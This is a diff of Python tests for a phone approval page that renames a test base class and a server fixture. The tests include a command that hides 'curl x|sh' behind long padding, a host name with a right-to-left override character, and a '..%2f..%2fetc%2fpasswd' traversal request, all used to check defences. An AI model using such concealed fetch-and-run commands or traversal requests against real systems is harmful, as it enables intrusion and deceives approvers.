@@ -3,7 +3,7 @@
 import unittest
 
 from accessibility import complaints
-from phone_page_case import PhonePageTest
+from phone_page_case import PhonePageCase
 
 LONG = "x" * 150
 
@@ -46,7 +46,7 @@ AUDIT = """
 """
 
 
-class Looks(PhonePageTest):
+class Looks(PhonePageCase):
     def looks_well(self, name):
         """Pictures of the page as it is, and what is wrong with it."""
         self.assertEqual(self.browser.screenshot(name), [])
@@ -57,10 +57,10 @@ class Looks(PhonePageTest):
         self.browser.dark(False)
 
     def test_looks_well_at_each_size(self):
-        self.browser.open(self.office.address + "/phone/")
+        self.browser.open(self.world.address + "/phone/")
         self.browser.sees("#welcome")
         self.looks_well("welcome")
-        self.browser.open(self.office.link(self.user, "Alice"))
+        self.browser.open(self.world.link(self.user, "Alice"))
         self.browser.sees("#register")
         self.looks_well("registration")
         self.browser.tap("#register")
@@ -69,11 +69,11 @@ class Looks(PhonePageTest):
         self.approved(host="build-3", service="sshd", remote_host="192.0.2.7")
         self.approved(host="laptop")
         self.sessions_shown(2)
-        self.browser.open(self.office.address + "/phone/")
+        self.browser.open(self.world.address + "/phone/")
         self.connected()
         self.sessions_shown(2)
         self.looks_well("home")
-        self.office.sign_in(self.user, user="alice", remote_host="192.0.2.7", command="apt upgrade")
+        self.world.sign_in(self.user, user="alice", remote_host="192.0.2.7", command="apt upgrade")
         self.card()
         self.looks_well("request")
         self.browser.tap(".request .not-me")
@@ -85,7 +85,7 @@ class Looks(PhonePageTest):
         self.looks_well("unregister")
 
     def test_the_judge_sees_what_is_wrong(self):
-        self.browser.open(self.office.address + "/phone/")
+        self.browser.open(self.world.address + "/phone/")
         self.browser.sees("#welcome")
         self.assertEqual(complaints(self.browser), [])
         self.browser.script("""
@@ -101,26 +101,26 @@ class Looks(PhonePageTest):
 
     def test_holds_long_words(self):
         self.register(name="A" * 100)
-        self.office.sign_in(self.user, host=LONG, service=LONG, tty=LONG, remote_host=LONG, command=LONG)
+        self.world.sign_in(self.user, host=LONG, service=LONG, tty=LONG, remote_host=LONG, command=LONG)
         self.card()
         self.looks_well("long-words")
-        self.browser.open(self.office.address + "/register/" + "0" * 32)
+        self.browser.open(self.world.address + "/register/" + "0" * 32)
         self.browser.sees("#registration-text", "invalid")
         self.looks_well("bad-link")
 
     def test_shows_what_would_not_be_seen(self):
         self.register()
-        self.office.sign_in(self.user, command="sh -c 'apt upgrade" + " " * 190 + "; curl x|sh'", remote_host="192.0.2.7\u202e")
+        self.world.sign_in(self.user, command="sh -c 'apt upgrade" + " " * 190 + "; curl x|sh'", remote_host="192.0.2.7\u202e")
         self.card()
         self.looks_well("named")
         self.browser.tap(".request .deny")
         self.browser.misses(".request")
-        self.office.sign_in(self.user, command="/usr/bin/install " + "a-file " * 300)
+        self.world.sign_in(self.user, command="/usr/bin/install " + "a-file " * 300)
         self.card()
         self.looks_well("long-command")
         self.browser.tap(".request .deny")
         self.browser.misses(".request")
-        self.office.sign_in(
+        self.world.sign_in(
             self.user, host="shop", service=None, user=None, tty=None, amount="20 EUR",
             beneficiary_account_of_the_payment="DE02 1203 0000 0000 2020 51")  # fmt: skip
         self.card()
@@ -128,28 +128,28 @@ class Looks(PhonePageTest):
 
     def test_works_by_keyboard_alone(self):
         self.register()
-        sign_in = self.office.sign_in(self.user)
+        sign_in = self.world.sign_in(self.user)
         self.card()
         self.type_code(sign_in)
         self.on_card("", ".approve", lambda button: button.send_keys("\ue007"))
         sign_in.becomes("active")
 
 
-class Installing(PhonePageTest):
+class Installing(PhonePageCase):
     """As Chromium, which alone tells, judges it."""
 
     def test_can_be_installed(self):
-        self.browser.open(self.office.address + "/phone/")
+        self.browser.open(self.world.address + "/phone/")
         manifest = self.browser.cdp("Page.getAppManifest")
         self.assertEqual(manifest["errors"], [])
         self.assertTrue(manifest["url"].endswith("/phone/phone.webmanifest"))
         self.assertEqual(self.browser.cdp("Page.getInstallabilityErrors")["installabilityErrors"], [])
 
 
-class Headers(PhonePageTest):
+class Headers(PhonePageCase):
     def test_is_sent_with_a_strict_policy(self):
         for path in ("/phone/", "/register/" + "0" * 32, "/phone/app.js", "/phone/service-worker.js"):
-            status, headers, _ = self.office.fetch(path, Accept="text/html")
+            status, headers, _ = self.world.fetch(path, Accept="text/html")
             self.assertEqual(status, 200)
             policy = dict(rule.strip().split(" ", 1) for rule in headers["Content-Security-Policy"].split(";"))
             self.assertEqual(policy["default-src"], "'none'")
@@ -164,23 +164,23 @@ class Headers(PhonePageTest):
             self.assertIsNone(headers["Strict-Transport-Security"])
 
     def test_gives_programs_the_link_as_json(self):
-        path = self.office.link(self.user).removeprefix(self.office.address)
+        path = self.world.link(self.user).removeprefix(self.world.address)
         for accept in ({}, {"Accept": "application/json"}, {"Accept": "*/*"}):
-            status, headers, body = self.office.fetch(path, **accept)
+            status, headers, body = self.world.fetch(path, **accept)
             self.assertEqual((status, headers["Content-Type"]), (200, "application/json"))
             self.assertIn(b"seconds_left", body)
 
     def test_sends_a_file_once(self):
-        _, headers, body = self.office.fetch("/phone/app.js")
+        _, headers, body = self.world.fetch("/phone/app.js")
         self.assertGreater(len(body), 1000)
-        status, _, body = self.office.fetch("/phone/app.js", **{"If-None-Match": headers["ETag"]})
+        status, _, body = self.world.fetch("/phone/app.js", **{"If-None-Match": headers["ETag"]})
         self.assertEqual((status, body), (304, b""))
 
     def test_has_no_other_files(self):
         for path in ("/phone/nothing.js", "/phone/..%2f..%2fetc%2fpasswd", "/phone/phone.html/x"):
-            self.assertEqual(self.office.fetch(path)[0], 404)
-        status, headers, _ = self.office.fetch("/phone")
-        self.assertEqual((status, headers["Location"]), (302, self.office.address + "/phone/"))
+            self.assertEqual(self.world.fetch(path)[0], 404)
+        status, headers, _ = self.world.fetch("/phone")
+        self.assertEqual((status, headers["Location"]), (302, self.world.address + "/phone/"))
 
 
 if __name__ == "__main__":
